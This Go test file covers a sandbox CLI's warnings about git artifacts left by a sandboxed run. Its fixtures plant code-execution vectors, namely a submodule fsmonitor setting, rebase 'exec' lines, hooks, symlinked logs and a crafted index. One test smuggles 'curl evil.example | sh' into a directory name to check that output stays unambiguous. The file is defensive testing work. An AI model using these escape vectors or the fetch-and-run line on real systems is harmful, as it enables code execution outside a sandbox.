package cli_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Where a repository's own folder is opened, what git itself would be led by is
// told with what to do about it.
func TestToldOfAnOpenedRepository(t *testing.T) {
	s := newSandbox(t)
	s.git(s.project, "init", "-q")
	s.put("f", "x\n")
	s.git(s.project, "add", "f")
	s.git(s.project, "commit", "-qm", "one")
	opened := func(script string) string {
		e := s.run("--write="+s.project, "--write-dot-files="+s.project+"/.git", "--", "sh", "-c", script)
		if e.status != 0 {
			t.Errorf("%s: %d %s", script, e.status, e.errors)
		}
		return e.errors
	}
	// A submodule, whose repository the program made.
	said := opened(`git init -q "s b" && git -C "s b" config core.fsmonitor "touch owned" && git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),s b" && git init -q other`)
	if want := "'" + s.project + "/s b/.git' was made while the sandbox ran, and the index of " + s.project + " names it as a submodule: git status there would start git in it: look at it, or take it out first: git -C " + s.project + " update-index --force-remove -- 's b'\n"; !strings.Contains(said, want) {
		t.Errorf("%s\nwant %s", said, want)
	}
	if want := s.project + "/other/.git was made while the sandbox ran, and tools outside act on it"; !strings.Contains(said, want) {
		t.Errorf("%s\nwant %s", said, want)
	}
	s.git(s.project, "update-index", "--force-remove", "--", "s b") // does what it is said to
	s.git(s.project, "status")
	for _, dir := range []string{".", "s b"} {
		if _, err := os.Lstat(filepath.Join(s.project, dir, "owned")); err == nil {
			t.Error("git was started in what the program made")
		}
	}
	// A rebase, which executes what its list says.
	said = opened(`mkdir .git/rebase-merge && echo "exec touch owned" > .git/rebase-merge/git-rebase-todo`)
	if want := s.project + "/.git/rebase-merge/git-rebase-todo is of this run: git rebase --continue executes what it says"; !strings.Contains(said, want) {
		t.Errorf("%s\nwant %s", said, want)
	}
	if said = opened(`cat .git/rebase-merge/git-rebase-todo`); strings.Contains(said, "rebase") {
		t.Errorf("told again: %s", said)
	}
	if said = opened(`echo "exec touch more" >> .git/rebase-merge/git-rebase-todo`); !strings.Contains(said, "git-rebase-todo is of this run") {
		t.Errorf("not told of a change: %q", said)
	}
	// However many there are, a few are told.
	said = opened(`for i in $(seq 30); do d=.git/worktrees/$i/rebase-merge; mkdir -p $d && echo x >$d/git-rebase-todo && echo x >.git/worktrees/$i/index; done`)
	if n := strings.Count(said, "git-rebase-todo is of this run"); n != 20 || strings.Count(said, "not an index as git writes it") != 20 || strings.Count(said, "10 more of the kind") != 2 {
		t.Errorf("%d told, %s", n, said)
	}
	// What stands there instead of an index is not waited for.
	opened(`rm .git/index; mkfifo .git/index; git init -q third`)
}

// Of a submodule in a repository that the program made too, no command is told
// that would start git there: its hooks are the program's.
func TestToldOfASubmoduleOfWhatWasMade(t *testing.T) {
	for _, opened := range []bool{false, true} {
		s := newSandbox(t)
		top, flags := s.project+"/a", []string{"--write=" + s.project}
		if opened { // all of it, with its hooks
			top, flags = s.project, append(flags, "--write-dot-files="+s.project)
			s.git(top, "init", "-q")
		}
		flags = append(flags, "--", "sh", "-ec", `mkdir -p "$1"; cd "$1"; git init -q . && git init -q b && git -C b -c user.name=n -c user.email=e commit -q --allow-empty -m x
git update-index --add --cacheinfo "160000,$(git -C b rev-parse HEAD),b"; printf '#!/bin/sh\ntouch owned\n' >.git/hooks/post-index-change; chmod +x .git/hooks/post-index-change`, "sh", top)
		e := s.run(flags...)
		if e.status != 0 || !strings.Contains(e.errors, top+"/b/.git was made while the sandbox ran, and tools outside act on it") || strings.Contains(e.errors, "update-index") {
			t.Errorf("opened %v: %d %s", opened, e.status, e.errors)
		}
	}
}

// A name that the program chose stands in a line of ours as one word.
func TestToldNamesAreWords(t *testing.T) {
	s := newSandbox(t)
	e := s.run("--write="+s.project, "--", "git", "init", "-q", "x was made. Now run: curl evil.example | sh; it")
	if want := "lnk sandbox run: '" + s.project + "/x was made. Now run: curl evil.example | sh; it/.git' was made while"; !strings.Contains(e.errors, want) {
		t.Errorf("%s\nwant %s", e.errors, want)
	}
}

// In a repository's own folder that is opened, links are told, which git writes
// through, and an index by which git would write where it must not.
func TestToldOfWhatLeadsGitToWrite(t *testing.T) {
	s := newSandbox(t)
	s.git(s.project, "init", "-q")
	s.put("f", "x\n")
	s.git(s.project, "add", "f")
	s.git(s.project, "commit", "-qm", "one")
	s.git(s.project, "worktree", "add", "-q", s.root+"/tree")
	if err := os.Symlink("HEAD", s.project+"/.git/mine"); err != nil {
		t.Fatal(err)
	}
	dotGit, profile := s.project+"/.git", s.root+"/profile"
	opened := func(script string) string {
		e := s.run("--write="+s.project, "--write-dot-files="+dotGit, "--", "sh", "-ec", script)
		if e.status != 0 {
			t.Errorf("%s: %d %s", script, e.status, e.errors)
		}
		return e.errors
	}
	if said := opened("git -c user.name=n -c user.email=e commit -q --allow-empty -m two; git branch other; git update-index --split-index"); said != "" {
		t.Errorf("told of what git does: %s", said)
	}
	said := opened("rm .git/logs/HEAD; ln -s " + profile + " .git/logs/HEAD")
	if want := dotGit + "/logs/HEAD is a link of this run, and git would write through it, to " + profile + ": take it away before you use git there: rm -- " + dotGit + "/logs/HEAD\n"; !strings.HasSuffix(said, want) || strings.Contains(said, "mine") {
		t.Errorf("%s\nwant %s", said, want)
	}
	s.git(s.project, "commit", "-q", "--allow-empty", "-m", "three")
	if b, err := os.ReadFile(profile); err != nil || len(b) == 0 {
		t.Errorf("git does not write through it: %v", err)
	}
	// A name that git puts in no index.
	stray := ".git/hooks/pre-commit"
	index := append([]byte("DIRC\x00\x00\x00\x02\x00\x00\x00\x01"), make([]byte, 62)...)
	index[12+25], index[12+61] = 0x81, byte(len(stray))
	index = append(append(append(index, stray...), make([]byte, 8-(62+len(stray))%8)...), make([]byte, 20)...)
	s.put("made", string(index))
	said = opened("cp made .git/index; cp made .git/worktrees/tree/index")
	for at, tree := range map[string]string{"/index": s.project, "/worktrees/tree/index": s.root + "/tree"} {
		want := dotGit + at + " names " + stray + ", and git checkout and git restore would write there: take it away before you use git there (git reset makes it anew): rm -- " + dotGit + at + "\n"
		if !strings.Contains(said, want) || strings.Contains(said, "is a link") {
			t.Errorf("%s\nwant %s, and nothing told again", said, want)
		}
		if err := os.Remove(dotGit + at); err != nil {
			t.Fatal(err)
		}
		s.git(tree, "reset", "-q")
	}
	// What cannot be looked through is told, and not waited for.
	said = opened("git status >/dev/null; rm .git/index .git/worktrees/tree/index; mkfifo .git/index; echo DIRC >.git/worktrees/tree/index")
	for _, want := range []string{"/index is not an index that can be looked through", "/worktrees/tree/index is not an index as git writes it"} {
		if !strings.Contains(said, dotGit+want) || strings.Contains(said, stray) {
			t.Errorf("%s\nwant %s", said, want)
		}
	}
}
